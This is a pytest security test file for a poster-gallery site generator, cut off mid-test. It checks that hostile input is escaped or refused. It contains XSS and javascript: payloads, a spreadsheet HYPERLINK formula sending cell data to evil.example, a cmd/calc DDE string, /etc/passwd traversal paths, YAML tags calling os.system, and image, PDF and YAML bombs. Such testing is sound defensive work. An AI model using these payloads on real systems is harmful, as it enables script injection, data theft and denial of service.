"""Hostile input: nothing injected, nothing included, nothing executed, every refusal said in words.

A corpus of hostile posters (tests/hostilekit.py: HTML, script, SVG, Markdown, template, snippet and
front-matter payloads in every field of poster.yml and every label of extra.gallery), a hostile vote
export, and hostile files, folders and sizes. The built site is checked as HTML: it has no element or
attribute that the same site built from plain text lacks, and every value shows as the text it was.
"""

from __future__ import annotations

import csv
import hashlib
import io
import json
import os
import re
import resource
import subprocess
import sys
import textwrap
import xml.etree.ElementTree as ET
from html import unescape
from html.parser import HTMLParser
from pathlib import Path

import pytest
import yaml

from postergallery.build import reserved_slugs
from postergallery.commands import codes as ballot_codes
from postergallery.commands import tally
from postergallery.features.postertext import search_words
from postergallery.i18n import Translator
from postergallery.stages.load import load_posters
from postergallery.stages.render import html_text
from postergallery.stages.writer import GENERATED_MARKER

import imagefiles as F
from hostilekit import PAYLOADS, build_hostile_project, gallery_cli, write_many_posters
from imagefiles import png_bytes, write_png_bomb
from projectkit import GOOD_POSTER, Project, messages

EN = Translator("en")


def tree_state(folder: Path) -> dict[str, str]:
    return {
        p.relative_to(folder).as_posix(): hashlib.sha256(p.read_bytes()).hexdigest()
        for p in sorted(folder.rglob("*"))
        if p.is_file() and not p.is_symlink()
    }


# ------------------------------------------------------------ the sites ---


@pytest.fixture(scope="module")
def hostile(tmp_path_factory):
    """The hostile corpus with vote (codes, per role), kiosk, labels and results, built by mkdocs."""
    root = tmp_path_factory.mktemp("hostile") / "site-project"
    project, corpus = build_hostile_project(root)
    return project, corpus


@pytest.fixture(scope="module")
def benign(tmp_path_factory):
    """The same features and extensions with plain text: what the hostile site is compared with."""
    from hostilekit import HOSTILE_GALLERY, SNIPPET_PAGE, nav_posters

    project = Project(tmp_path_factory.mktemp("benign") / "site-project")
    for i, role in enumerate(("instructor", "trainee", "alumni") * 2):
        links = "\nlinks:\n  - label: Skema\n    url: https://example.org/skema" if i % 2 else ""
        extra = (
            f"program: Las\ndate: 2024-01-0{i + 1}\nsummary: Satu.\n\n  Dua.\ntags: [las, k3]{links}\n"
            "text: |\n  Baris satu\n  baris dua\n\n  Paragraf dua\n"
        )
        project.add_poster(f"poster-{i}", GOOD_POSTER.replace("alumni", role).replace("Las SMAW", f"Las {i}") + extra)
    gallery = re.sub(r'(title|intro): ".*"', r'\1: "Galeri biasa"', HOSTILE_GALLERY)
    project.write_config(gallery, extra_top=nav_posters(["poster-0", "poster-1", "poster-2"]))
    (project.root / "docs" / "snippet-check.md").write_text(SNIPPET_PAGE, "utf-8")
    settings = project.check().settings
    posters, _ = load_posters(settings.root, settings.posters, EN, reserved=reserved_slugs())
    codes = ballot_codes.make_codes(3)
    rows = [f"2024/01/30 9:0{i}:00 AM GMT+7,{p.slug},{i:032x},{codes[i]}\n" for i, p in enumerate(posters[:3])]
    export = "<b>Timestamp</b>,=poster,token,code\n" + "".join(rows)
    result = tally.count_votes(
        export.encode(), settings.vote, posters, EN, valid_codes=set(codes), export_name="export.csv"
    )
    tally.write_results(result, settings.vote, project.root / "results", EN)
    proc = project.mkdocs("build", "--strict")
    assert proc.returncode == 0, proc.stderr
    return project


class Markup(HTMLParser):
    """Elements, attributes, inline scripts and text of one HTML page."""

    def __init__(self, text: str):
        super().__init__(convert_charrefs=True)
        self.elements: set[tuple[str, str]] = set()  # (tag, attribute) and (tag, "")
        self.urls: list[tuple[str, str, str]] = []  # (tag, attribute, value)
        self.scripts: list[str] = []
        self.styles: list[str] = []
        self._in = None
        self.feed(text)
        self.close()

    def handle_starttag(self, tag, attrs):
        self.elements.add((tag, ""))
        for name, value in attrs:
            self.elements.add((tag, name))
            if name in ("href", "src", "action", "formaction", "data", "poster", "srcdoc", "xlink:href", "background"):
                self.urls.append((tag, name, value or ""))
            if name == "style":
                self.styles.append(value or "")
        if tag in ("script", "style"):
            self._in = tag
            (self.scripts if tag == "script" else self.styles).append("")

    def handle_endtag(self, tag):
        if tag == self._in:
            self._in = None

    def handle_data(self, data):
        if self._in == "script":
            self.scripts[-1] += data
        elif self._in == "style":
            self.styles[-1] += data


class TopLevel(HTMLParser):
    """Whether a text is exactly one element: opened at the start, closed at the end, never in between."""

    VOID = {"area", "base", "br", "col", "embed", "hr", "img", "input", "link", "meta", "source", "track", "wbr"}

    def __init__(self, text: str):
        super().__init__(convert_charrefs=True)
        self.depth = 0
        self.closings = 0
        self.stray_text = False
        self.feed(text)
        self.close()
        self.closed_once = self.closings == 1 and self.depth == 0 and not self.stray_text

    def handle_starttag(self, tag, attrs):
        if tag not in self.VOID:
            self.depth += 1

    def handle_endtag(self, tag):
        if tag not in self.VOID:
            self.depth -= 1
            if self.depth == 0:
                self.closings += 1

    def handle_data(self, data):
        if self.depth == 0 and data.strip():
            self.stray_text = True


def _pages(project) -> dict[str, str]:
    site = project.root / "site"
    return {p.relative_to(site).as_posix(): p.read_text("utf-8") for p in sorted(site.rglob("*.html"))}


def _stable_script(text: str) -> str:
    """An inline script with what varies by page and build (paths, titles in Material's config) removed."""
    return re.sub(r'"base":\s*"[^"]*"', '"base": ""', text).strip()


def test_the_hostile_site_has_no_element_attribute_script_or_address_the_plain_site_lacks(hostile, benign):
    project, _ = hostile
    allowed_elements, allowed_scripts, allowed_urls = set(), set(), set()
    for text in _pages(benign).values():
        page = Markup(text)
        allowed_elements |= page.elements
        allowed_scripts |= {_stable_script(s) for s in page.scripts}
        allowed_urls |= {(tag, name) for tag, name, _ in page.urls}
    pages = _pages(project)
    assert len([p for p in pages if p.startswith("poster/hostile-")]) == len(PAYLOADS)
    for rel, text in pages.items():
        page = Markup(text)
        assert page.elements <= allowed_elements, (rel, sorted(page.elements - allowed_elements))
        assert not [a for tag, a in page.elements if a.startswith("on")], rel
        for script in page.scripts:
            stable = _stable_script(script)
            assert stable in allowed_scripts, (rel, script[:200])
        for tag, name, value in page.urls:
            assert (tag, name) in allowed_urls, (rel, tag, name, value)
            scheme = re.match(r"^\s*([a-zA-Z][a-zA-Z0-9+.-]*):", value)
            assert scheme is None or scheme.group(1).lower() in ("http", "https") or value == "data:,", (rel, value)
            assert "evil.example" not in value, (rel, tag, name, value)
        for style in page.styles:
            assert "evil.example" not in style and "url(" not in style.replace("url(data:", ""), (rel, style[:200])
    # Nothing anywhere in the site came from a file a snippet line named: the owner's page did include one.
    for path in (project.root / "site").rglob("*"):
        if path.is_file() and path.suffix in (".html", ".json", ".xml", ".svg", ".js"):
            assert "root:x:0:0" not in path.read_text("utf-8", "replace"), path
    snippet = pages["snippet-check/index.html"]
    assert f"<p>{Path('/etc/hostname').read_text().strip()}</p>" in snippet


def _texts(html: str, css_class: str, tag: str = r"[a-z0-9]+") -> list[str]:
    """The text (entities decoded, inner tags dropped) of each element with ``css_class``."""
    found = re.findall(rf'<({tag}) class="{css_class}"[^>]*>(.*?)</\1>', html, re.S)
    return [unescape(re.sub(r"<[^>]+>", "", inner)) for _, inner in found]


def _attr(html: str, css_class: str, name: str) -> list[str]:
    tags = re.findall(rf'<[a-z]+ class="{css_class}"[^>]*>', html)
    return [unescape(m) for t in tags for m in re.findall(rf'\s{name}="([^"]*)"', t)]


def test_every_hostile_value_shows_on_the_page_as_the_text_it_was(hostile):
    project, corpus = hostile
    site = project.root / "site"
    home = (site / "index.html").read_text("utf-8")
    vote = (site / "vote/index.html").read_text("utf-8")
    labels = (site / "print/index.html").read_text("utf-8")
    assert _texts(home, "pg-home__title", "h1") == ["<script>window.__pwned=30</script> Galeri {{ x }}"]
    assert _texts(home, "pg-intro", "p") == [
        '<img src=x onerror=window.__pwned=31> [x](javascript:window.__pwned=32) --8<-- "/etc/passwd"'
    ]
    for slug, values in corpus.items():
        if values is None:
            continue
        html = (site / "poster" / slug / "index.html").read_text("utf-8")
        assert re.search(r"<title>(.*?)</title>", html).group(1) == html_text(values["title"]) + " - Test Gallery"
        assert _texts(html, "pg-poster__title", "h1") == [values["title"]]
        assert _texts(html, "pg-poster__authors", "p") == [", ".join(values["authors"])]
        assert _attr(html, "pg-poster__img", "alt") == [values["alt"]]
        paragraphs = [" ".join(p.split()) for p in re.split(r"\n\s*\n", values["summary"].strip())]
        summary = re.search(r'<div class="pg-summary">(.*?)</div>', html, re.S).group(1)
        assert [unescape(p) for p in re.findall(r"<p>(.*?)</p>", summary, re.S)] == [p for p in paragraphs if p]
        text = re.search(r'<div class="pg-postertext__body">(.*?)</div>', html, re.S).group(1)
        # Paragraphs as the summary's: the lines of one paragraph joined, empty lines between paragraphs.
        paragraphs = [" ".join(p.split()) for p in re.split(r"\n\s*\n", values["text"].strip())]
        assert [[unescape(line) for line in p.split("<br>")] for p in re.findall(r"<p>(.*?)</p>", text, re.S)] == [
            [p] for p in paragraphs if p
        ]
        tags = re.search(r'<ul class="pg-tags">(.*?)</ul>', html, re.S).group(1)
        assert [unescape(t) for t in re.findall(r'<a href="[^"]+">(.*?)</a>', tags)] == values["tags"]
        links = re.search(r'<ul class="pg-links">(.*?)</ul>', html, re.S).group(1)
        assert [(unescape(h), unescape(t)) for h, t in re.findall(r'<a href="([^"]+)"[^>]*>(.*?)</a>', links)] == [
            (link["url"], link["label"]) for link in values["links"]
        ]
        assert values["title"] in _texts(home, "pg-card__title", "span")
        assert values["title"] in _texts(labels, "label__title", "h2")
        assert values["title"] in [t for t in _attr(vote, "pg-vote__radio", "data-title")]
    # The hand-written one: block scalars, quotes, an escaped quote that would end an attribute.
    html = (site / "poster/hand-written/index.html").read_text("utf-8")
    assert _attr(html, "pg-poster__img", "alt") == ['" onload="window.__pwned=24']
    summary = re.search(r'<div class="pg-summary">(.*?)</div>', html, re.S).group(1)
    assert [unescape(p) for p in re.findall(r"<p>(.*?)</p>", summary, re.S)] == [
        '--8<-- "/etc/passwd"',
        '--- title: front matter inside a summary --- <div onclick="window.__pwned=27">raw HTML block</div>',
        'indented four spaces: code? {% include "base.html" %}',
    ]


def test_generated_pages_are_front_matter_and_one_raw_html_block_with_no_user_text_starting_a_line(hostile):
    project, corpus = hostile
    docs = project.root / "docs"
    project.build()  # the pages as gallery.py build writes them into docs/ (MkDocs gets the same from memory)
    record = json.loads((docs / ".gallery-generated.json").read_text())["files"]
    pages = [rel for rel in record if rel.endswith(".md")]
    assert len(pages) > len(PAYLOADS) + 10
    for rel in pages:
        text = (docs / rel).read_text("utf-8")
        match = re.match(r"---\n(.*?)\n---\n", text, re.S)
        assert match, rel
        meta = yaml.safe_load(match.group(1))
        for key, value in meta.items():
            if isinstance(value, str):  # HTML-escaped: Material prints these as they are
                assert "<" not in value and ">" not in value and "{" not in value, (rel, key, value)
        body = text[match.end() :]
        if rel.startswith("results/"):
            continue  # Markdown made by the count, checked in test_results_page_csv_and_chart_are_inert
        lines = body.strip("\n").split("\n")
        assert lines[0] == f"<!-- {GENERATED_MARKER}: edit posters/ or mkdocs.yml, not this file -->", rel
        for line in lines[1:]:  # line-based Markdown extensions (snippets) never see user text first
            assert line == "" or line.startswith("<"), (rel, line[:80])
        assert TopLevel("\n".join(lines[1:])).closed_once, rel  # Markdown keeps one element as raw HTML
    for slug, values in corpus.items():
        if values:
            meta = yaml.safe_load(
                re.match(r"---\n(.*?)\n---\n", (docs / "poster" / slug / "index.md").read_text(), re.S).group(1)
            )
            assert unescape(meta["title"]) == values["title"]


def test_the_poster_list_and_the_data_in_pages_read_back_as_written(hostile):
    project, corpus = hostile
    site = project.root / "site"
    data = json.loads((site / "poster/posters.json").read_text("utf-8"))
    by_slug = {p["slug"]: p for p in data["posters"]}
    for slug, values in corpus.items():
        if values:
            entry = by_slug[slug]
            assert (entry["title"], entry["authors"], entry["center"], entry["tags"]) == (
                values["title"],
                values["authors"],
                values["center"],
                values["tags"],
            )
            assert all(
                re.fullmatch(r"poster/[a-z0-9-]+/[a-z0-9]+\.[0-9a-f]{10}\.(webp|jpg)", i["src"])
                for i in entry["images"].values()
            )
            assert re.fullmatch(r"#[0-9a-f]{6}", entry["placeholder"])
    # The filter's words: each poster's own, folded, nothing else (no markup survives as markup: words only).
    texts = json.loads((site / "poster/texts.json").read_text("utf-8"))["texts"]
    for slug, values in corpus.items():
        if values:
            assert texts[slug] == search_words(values["text"]) and re.fullmatch(r"[\w ]+", texts[slug])
    show = (site / "kiosk/index.html").read_text("utf-8")
    config = re.search(r'<script type="application/json" id="kiosk-config">(.*?)</script>', show, re.S).group(1)
    assert "<" not in config and json.loads(config)["words"]["paused"] == "Paused"
    for page in ("vote/index.html", "poster/hostile-00/index.html"):
        html = (site / page).read_text("utf-8")
        vote = json.loads(unescape(re.search(r'data-pg-vote="([^"]+)"', html).group(1)))
        assert vote["action"].startswith("https://docs.google.com/forms/")


def test_results_page_csv_and_chart_are_inert(hostile):
    project, corpus = hostile
    results = project.root / "results"
    html = (project.root / "site/results/index.html").read_text("utf-8")
    titles = [unescape(t) for t in re.findall(r'<td><a href="\.\./poster/[a-z0-9-]+/">(.*?)</a></td>', html)]
    expected = {v["title"] for v in corpus.values() if v} | {
        "</title><script>window.__pwned=20</script> {{ lipsum() }}"
    }
    assert sorted(titles) == sorted(expected)
    assert "Counted from the export &lt;img src=x onerror=window.__pwned=41&gt;.csv (SHA-256" in html
    for name in ("results.csv", "rejected.csv"):
        rows = list(csv.reader(io.StringIO((results / name).read_text("utf-8"))))
        assert len(rows) > 5
        for row in rows:
            for cell in row:
                first = cell.lstrip(" \t\r\n\u00a0\u3000")[:1]
                assert first not in ("=", "+", "-", "@", "\uff1d", "\uff0b", "\uff0d", "\uff20"), (name, cell)
    results_rows = list(csv.reader(io.StringIO((results / "results.csv").read_text("utf-8"))))
    assert [r[4] for r in results_rows if "HYPERLINK" in r[4]] == [
        '\'=HYPERLINK("https://evil.example/?x="&A1,"klik") +1 -1 @SUM(1)'
    ]
    rejected = (results / "rejected.csv").read_text("utf-8")
    assert "unknown poster '@SUM(A1)'" in rejected
    svg = ET.fromstring((results / "results.svg").read_text("utf-8"))
    names = {el.tag.split("}")[1] for el in svg.iter()}
    assert names <= {"svg", "title", "text", "g", "rect"}, names
    assert not [a for el in svg.iter() for a in el.attrib if a.lower().startswith("on") or "href" in a]
    assert "</title><script>window.__pwned=20</script> {{ lipsum() }}: 1" in [
        el.text for el in svg.iter("{http://www.w3.org/2000/svg}title")
    ]


def test_ballot_code_files_are_inert_with_a_hostile_site_name(tmp_path):
    class Settings:
        site_name = '=cmd|"/C calc"!A0 <script>window.__pwned=50</script>'

        @staticmethod
        def absolute_url(path):
            return "https://example.org/gallery/" + path

    folder = tmp_path / "codes"
    from postergallery.commands.codes import codes_csv, render_sheet

    codes = ballot_codes.make_codes(30)
    rows = list(csv.reader(io.StringIO(codes_csv(codes, EN))))
    assert rows[0] == ["No", "Code"] and all(
        re.fullmatch(r"\d+", n) and re.fullmatch(r"[2-9A-Z]{4}-[2-9A-Z]{4}", c) for n, c in rows[1:]
    )
    sheet = render_sheet(codes, Settings, EN)
    assert "<script>" not in sheet and "=cmd|&#34;/C calc&#34;!A0 &lt;script&gt;" in sheet
    page = Markup(sheet)
    assert not page.scripts and not [a for _, a in page.elements if a.startswith("on")]
    assert not folder.exists()


def test_the_hostile_build_touches_neither_posters_nor_hand_written_pages(tmp_path):
    project = Project(tmp_path / "p")
    from hostilekit import write_hostile_corpus

    write_hostile_corpus(project)
    (project.root / "docs" / "about.md").write_text("# About\n\n<script>kept as written</script>\n")
    before_posters, before_about = tree_state(project.root / "posters"), (project.root / "docs/about.md").read_bytes()
    assert project.build().ok
    assert project.build().written.changed is False  # and a second build writes nothing
    assert tree_state(project.root / "posters") == before_posters
    assert (project.root / "docs/about.md").read_bytes() == before_about


# ---------------------------------------------------- refused, in words ---

LINK_REFUSED = "is not allowed: only web addresses starting with https:// or http:// can be linked."
LINK_CHARACTERS = "contains spaces, quotes or other characters a web address cannot have."


@pytest.mark.parametrize(
    "url, shown, reason",
    [
        ("javascript:alert(1)", "javascript:alert(1)", LINK_REFUSED),
        ("JaVaScRiPt:alert(1)", "JaVaScRiPt:alert(1)", LINK_REFUSED),
        (" javascript:alert(1)", "javascript:alert(1)", LINK_REFUSED),
        ("vbscript:msgbox(1)", "vbscript:msgbox(1)", LINK_REFUSED),
        ("data:text/html,<b>", "data:text/html,<b>", LINK_CHARACTERS),
        ("data:text/html;base64,PGI+", "data:text/html;base64,PGI+", LINK_REFUSED),
        ("file:///etc/passwd", "file:///etc/passwd", LINK_REFUSED),
        ("//evil.example/", "//evil.example/", LINK_REFUSED),
        ("\u202ehttps://example.org/", "\\u202ehttps://example.org/", LINK_REFUSED),
        ("java\tscript:alert(1)", "java script:alert(1)", LINK_CHARACTERS),
        ('https://example.org/"onmouseover="x', 'https://example.org/"onmouseover="x', LINK_CHARACTERS),
        ("https://evil.example/<script>", "https://evil.example/<script>", LINK_CHARACTERS),
        (
            "https:evil.example",
            "https:evil.example",
            "has no valid site name; a web address names its site after the //, e.g. https://bnsp.go.id/.",
        ),
    ],
)
def test_only_web_addresses_are_linked(project, url, shown, reason):
    project.add_poster("one", GOOD_POSTER + "links:\n  - label: x\n    url: " + json.dumps(url) + "\n")
    assert messages(project.check()) == [f"posters/one/poster.yml:9:10: the link '{shown}' {reason}"]


@pytest.mark.parametrize(
    "provider, url, message",
    [
        (
            "google_forms",
            "javascript:alert(1)",
            "'url' must start with https:// (found 'javascript:alert(1)'), e.g. "
            "https://docs.google.com/forms/d/e/FORM_ID/formResponse",
        ),
        (
            "form",
            "data:text/html,x",
            "'url' must start with https:// (found 'data:text/html,x'), e.g. https://example.org/vote",
        ),
        (
            "form",
            "http://evil.example/vote",
            "'url' must start with https:// (found 'http://evil.example/vote'), e.g. https://example.org/vote",
        ),
        (
            "form",
            'https://evil.example/"onmouseover=x',
            "'url' must be a web address without spaces or quotes, e.g. https://example.org/vote",
        ),
        (
            "tally",
            "javascript://tally.so/r/abc",
            "'url' must start with https:// (found 'javascript://tally.so/r/abc'), e.g. https://tally.so/r/FORM_ID",
        ),
        (
            "form",
            "https://[evil/vote",
            "'url' must be a web address without spaces or quotes, e.g. https://example.org/vote",
        ),  # a host Python cannot split: no traceback
    ],
)
def test_vote_addresses_are_validated(project, provider, url, message):
    project.add_poster("one")
    project.write_config(
        f"vote:\n  provider: {provider}\n  url: {json.dumps(url)}\n  fields: {{poster: entry.1, token: entry.2}}\n"
    )
    assert messages(project.check(), "mkdocs.yml") == [f"mkdocs.yml:21:12: {message}"]


@pytest.mark.parametrize(
    "site_url, reason",
    [
        ("javascript:alert(1)//", "must be the full address of the published site, e.g. https://ORG.github.io/REPO/."),
        ("data:text/html,x", "must be the full address of the published site, e.g. https://ORG.github.io/REPO/."),
        ("//evil.example/", "must be the full address of the published site, e.g. https://ORG.github.io/REPO/."),
        ('https://x.org/"><script>', "contains spaces, quotes or other characters a web address cannot have."),
        ("https://[x.org/", "must be the full address of the published site, e.g. https://ORG.github.io/REPO/."),
    ],
)
def test_site_url_is_validated(project, site_url, reason):
    project.add_poster("one")
    project.config.write_text(
        project.config.read_text().replace(
            "site_url: https://example.org/gallery/", "site_url: " + json.dumps(site_url)
        )
    )
    problems = messages(project.check(), "mkdocs.yml")
    assert f"mkdocs.yml:2:11: site_url '{site_url}' {reason}" in problems
    assert not (project.root / "docs" / "poster").exists()


def test_hostile_files_and_folders_are_refused_in_words_and_nothing_hangs(project, tmp_path):
    outside = tmp_path / "outside"
    outside.mkdir()
    (outside / "poster.yml").write_text(GOOD_POSTER)
    from imagefiles import write_jpeg

    write_jpeg(outside / "poster.jpg")
    for name, image in [
        ("image-dotdot", ".."),
        ("image-abs", "/etc/passwd"),
        ("image-up", "../up/poster.jpg"),
        ("image-nul", "poster.jpg\0"),
        ("image-back", "..\\poster.jpg"),
    ]:
        project.add_poster(name, GOOD_POSTER + "image: " + json.dumps(image) + "\n")
    os.symlink(outside / "poster.jpg", project.add_poster("linked-file", image=None) / "poster.jpg")
    os.symlink(outside / "poster.yml", project.add_poster("linked-yml", None) / "poster.yml")
    os.symlink(outside, project.root / "posters" / "linked-folder")
    os.mkfifo(project.add_poster("fifo-image", image=None) / "poster.jpg")  # reading it would wait forever
    os.mkfifo(project.add_poster("fifo-yml", None) / "poster.yml")
    os.mkfifo(project.root / "posters" / "fifo")
    (project.add_poster("folder-image", image=None) / "poster.jpg").mkdir()
    project.add_poster("bad\x1b[2J\rAll good\u202e")
    for slug in sorted(reserved_slugs()):
        project.add_poster(slug)
    proc = gallery_cli(project, "--lang", "en", "build")  # a subprocess with a timeout: a hang fails
    assert proc.returncode == 1 and "Traceback" not in proc.stderr, proc.stderr
    image_name = (
        "'image' must be just the name of a file in this folder, like poster.jpg, without any folder in "
        "front ('{}' is not allowed)."
    )
    expected = [
        "posters/bad\\x1b[2J\\x0dAll good\\u202e/: the folder name 'bad\\x1b[2J\\x0dAll good\\u202e' becomes the "
        "poster's web address, so it may contain only lowercase letters a-z, digits 0-9 and single dashes between "
        "words; rename the folder to 'bad-2j-all-good'.",
        "posters/fifo-image/poster.yml: 'poster.jpg' is not an ordinary file; put the poster file itself in the "
        "folder.",
        "posters/fifo-yml/poster.yml: poster.yml must be an ordinary file, not a link (symlink) or a folder.",
        "posters/folder-image/poster.yml: 'poster.jpg' is not an ordinary file; put the poster file itself in the "
        "folder.",
        "posters/image-abs/poster.yml:7:8: " + image_name.format("/etc/passwd"),
        "posters/image-back/poster.yml:7:8: " + image_name.format("..\\poster.jpg"),
        "posters/image-dotdot/poster.yml:7:8: " + image_name.format(".."),
        "posters/image-nul/poster.yml:7:8: " + image_name.format("poster.jpg\\x00"),
        "posters/image-up/poster.yml:7:8: " + image_name.format("../up/poster.jpg"),
        "posters/linked-file/poster.yml: 'poster.jpg' is a link (symlink) to another file; put the poster file "
        "itself in the folder.",
        "posters/linked-folder: 'linked-folder' is a link (symlink) to another folder; put the poster folder itself "
        "here.",
        "posters/linked-yml/poster.yml: poster.yml must be an ordinary file, not a link (symlink) or a folder.",
        "posters/fifo: warning: 'fifo' is directly in the folder posters/, where the gallery reads only folders, "
        "one per poster, so it is not on the site. If it belongs to a poster, move it into that poster's folder; if "
        "not, move it out of posters/, or start its name with _ to keep it here.",
    ] + [
        f"posters/{slug}/: the folder name '{slug}' is used by the site itself; rename the folder, e.g. to "
        f"'poster-{slug}'."
        for slug in sorted(reserved_slugs())
    ]
    shown = [line for line in proc.stdout.splitlines() if line.startswith("posters/")]
    assert shown == sorted(expected, key=lambda m: m.split(": ", 1)[0].rstrip("/") + "\0" + m)
    assert "\x1b" not in proc.stdout and "\r" not in proc.stdout and "\u202e" not in proc.stdout
    assert not (project.root / "docs" / "poster").exists() or sorted(
        p.name for p in (project.root / "docs" / "poster").iterdir()
    ) == ["index.md", "posters.json", "texts.json"]


def _jpeg_claiming(width: int, height: int) -> bytes:
    """A small, valid JPEG whose header says it is ``width`` x ``height``."""
    from PIL import Image

    out = io.BytesIO()
    Image.new("RGB", (16, 16), (90, 90, 90)).save(out, "JPEG")
    data = bytearray(out.getvalue())
    sof = data.index(b"\xff\xc0")
    data[sof + 5 : sof + 9] = height.to_bytes(2, "big") + width.to_bytes(2, "big")
    return bytes(data)


def test_oversized_input_is_refused_quickly_with_a_message(project):
    from hostilekit import pdf_bytes

    project.add_poster("huge-yml", GOOD_POSTER + "summary: |\n" + "  kata kata kata kata\n" * 4000)
    project.add_poster("deep", "title: " + "[" * 30000 + "]" * 30000 + "\n")
    project.add_poster(
        "alias",
        "a: &a [x, x, x, x, x, x, x, x, x]\nb: &b [*a, *a, *a, *a, *a, *a, *a, *a, *a]\n"
        "c: [*b, *b, *b, *b, *b, *b, *b, *b, *b]\n",
    )
    project.add_poster("long-title", GOOD_POSTER.replace("title: Las SMAW dari Nol", "title: " + "panjang " * 7000))
    project.add_poster("many-keys", "title: x\n" * 6000)
    write_png_bomb(project.add_poster("png-bomb", image=None) / "poster.png")
    (project.add_poster("jpeg-bomb", image=None) / "poster.jpg").write_bytes(_jpeg_claiming(65000, 65000))
    (project.add_poster("png-sliver", image=None) / "poster.png").write_bytes(
        png_bytes(1, 2_000_000, 8, 0, b"\0\x80" * 2_000_000)
    )
    (project.add_poster("pdf-sliver", image=None) / "poster.pdf").write_bytes(pdf_bytes(box=(0, 0, 1, 1000000)))
    (project.add_poster("pdf-pages", image=None) / "poster.pdf").write_bytes(pdf_bytes(pages=5000))
    result = project.build()
    sliver = (
        "'{}' is {} in size: its long side is more than 100 times its short side, which no poster is. Export "
        "the whole poster as one page, in its real proportions."
    )
    repeated = "posters/many-keys/poster.yml:{}:1: the field 'title' appears twice (first on line 1); keep only one."
    assert messages(result) == [
        "posters/alias/poster.yml:1:4: poster.yml uses a YAML anchor (&) or alias (*); write each value out in full "
        "instead.",
        "posters/deep/poster.yml:1:39: poster.yml is nested too deeply; poster fields are at most two levels deep "
        "(for example links: - label: ... url: ...).",
        "posters/huge-yml/poster.yml: poster.yml is 86 KB; a poster's details fit in a few lines (at most 64 KB). "
        "Check that this is the right file.",
        "posters/jpeg-bomb/poster.jpg: 'poster.jpg' claims to be 65000 × 65000 pixels (4225 megapixels) in a file of "
        "only 1 KB: no real poster is like that. The file is damaged or made to crash image programs; export the "
        "poster again from the original design.",
        "posters/long-title/poster.yml:1:8: 'title' is 55999 characters long; shorten it to at most 200.",
    ] + [repeated.format(line) for line in range(2, 27)] + [
        "posters/many-keys/poster.yml:27:1: ... and 5978 more problems in this file from here on; fix the ones above "
        "first, then check again.",
        "posters/pdf-pages/poster.pdf: warning: 'poster.pdf' has 5000 pages, and only the first is shown in the "
        "gallery. If the poster is on another page, export that page alone as a PDF.",
        "posters/pdf-sliver/poster.pdf: " + sliver.format("poster.pdf", "1 × 1000000"),
        "posters/png-bomb/poster.png: 'poster.png' claims to be 30000 × 30000 pixels (900 megapixels) in a file of "
        "only 1 KB: no real poster is like that. The file is damaged or made to crash image programs; export the "
        "poster again from the original design.",
        "posters/png-sliver/poster.png: " + sliver.format("poster.png", "1 × 2000000"),
    ]
    # A PDF of 5000 pages is a poster like any other: its first page is shown, and the others are said.
    assert sorted(p.name for p in (project.root / "docs/poster").iterdir() if p.is_dir()) == ["pdf-pages"]
    assert result.images.failed == 4


def test_a_pdf_whose_page_unpacks_into_millions_of_drawing_instructions_is_refused_within_limits(project):
    """0.3 MB that unpacks into 105 MB of instructions: PDFium held and drew them all (1.6 GB, 100 s) and the
    poster was accepted. Drawn in a process with a memory limit, it is refused in a few seconds."""
    from hostilekit import pdf_bytes

    bomb = pdf_bytes(fills=3_000_000)
    assert len(bomb) < 400_000
    (project.add_poster("pdf-bomb", image=None) / "poster.pdf").write_bytes(bomb)
    # Its shapes each cover the page: ten draw in a moment, where a thousand took seconds, twice.
    (project.add_poster("pdf-fine", image=None) / "poster.pdf").write_bytes(pdf_bytes(fills=10))
    expected = [
        "posters/pdf-bomb/poster.pdf: drawing the first page of 'poster.pdf' takes more than 1536 MB of memory or 30 "
        "seconds, which no poster needs: the PDF is damaged or made to overload the computers that open it. Export "
        "the poster again from the original design, as a PDF or as a JPG of about 5000 pixels on the long side."
    ]
    assert messages(project.check()) == expected
    result = project.build()
    assert messages(result) == expected and result.images.failed == 1
    assert sorted(p.name for p in (project.root / "docs/poster").iterdir() if p.is_dir()) == ["pdf-fine"]
    assert resource.getrusage(resource.RUSAGE_SELF).ru_maxrss < 1024 * 1024  # KB: the drawing was not in here


METADATA_5000 = textwrap.dedent("""\
    import json, re, sys, time
    from pathlib import Path
    sys.path.insert(0, sys.argv[2])
    from postergallery.i18n import Translator
    from postergallery.build import reserved_slugs
    from postergallery.stages.load import load_posters
    start = time.perf_counter()
    posters, problems = load_posters(Path(sys.argv[1]), "posters", Translator("en"), reserved=reserved_slugs())
    print(json.dumps({"posters": len(posters), "problems": [p.format_text() for p in problems],
                      "seconds": time.perf_counter() - start,
                      # peak resident memory of this program (ru_maxrss would count the parent it was forked from)
                      "max_rss_mb": int(re.search(r"VmHWM:\\s+(\\d+)", Path("/proc/self/status").read_text())[1])
                      / 1024}))
    """)


def test_five_thousand_poster_folders_are_checked_with_bounded_memory(tmp_path):
    """The metadata of 5,000 posters (the figures are in SECURITY.md, from benchmarks/hostile_input.py)."""
    write_many_posters(tmp_path, 5000, bad_every=500)
    scripts = Path(__file__).parents[1] / "scripts"
    proc = subprocess.run(
        [sys.executable, "-c", METADATA_5000, str(tmp_path), str(scripts)], capture_output=True, text=True, timeout=600
    )
    assert proc.returncode == 0, proc.stderr
    report = json.loads(proc.stdout)
    assert report["posters"] == 4990
    assert len(report["problems"]) == 10 and report["problems"][0].startswith(
        "posters/poster-0000/poster.yml:5:7: 'role' is 'teacher', which is not one of the allowed values"
    )
    assert report["max_rss_mb"] < 150, report  # about 25 MB: what is read is not kept


# ------------------------------------------------ nothing is run or read ---

SENTINEL_CODE = "import pathlib; pathlib.Path({!r}).write_text('ran')\n"


def test_nothing_in_a_poster_folder_is_run_imported_or_expanded(project, tmp_path):
    """Python files, a .pth, templates, YAML tags that would run code or read the environment: all inert."""
    ran = tmp_path / "ran"
    ran.mkdir()
    poster = project.add_poster(
        "one",
        GOOD_POSTER
        + textwrap.dedent("""\
        program: !ENV GALLERY_TEST_SECRET
        summary: !!python/module:os
        """),
    )
    tagged = project.add_poster(
        "tagged",
        textwrap.dedent(f"""\
        title: !!python/object/apply:os.system ["touch {ran}/yaml-apply"]
        authors: [!!python/name:os.system ]
        role: !!python/object/new:os.system [x]
        center: !ENV [GALLERY_TEST_SECRET, fallback]
        alt: !!binary aGVsbG8=
        """),
    )
    for folder in (poster, tagged, project.root / "posters"):
        for name in ("__init__.py", "conftest.py", "sitecustomize.py", "poster.py", "mkdocs_hooks.py", "setup.py"):
            (folder / name).write_text(SENTINEL_CODE.format(str(ran / f"{folder.name}-{name}")))
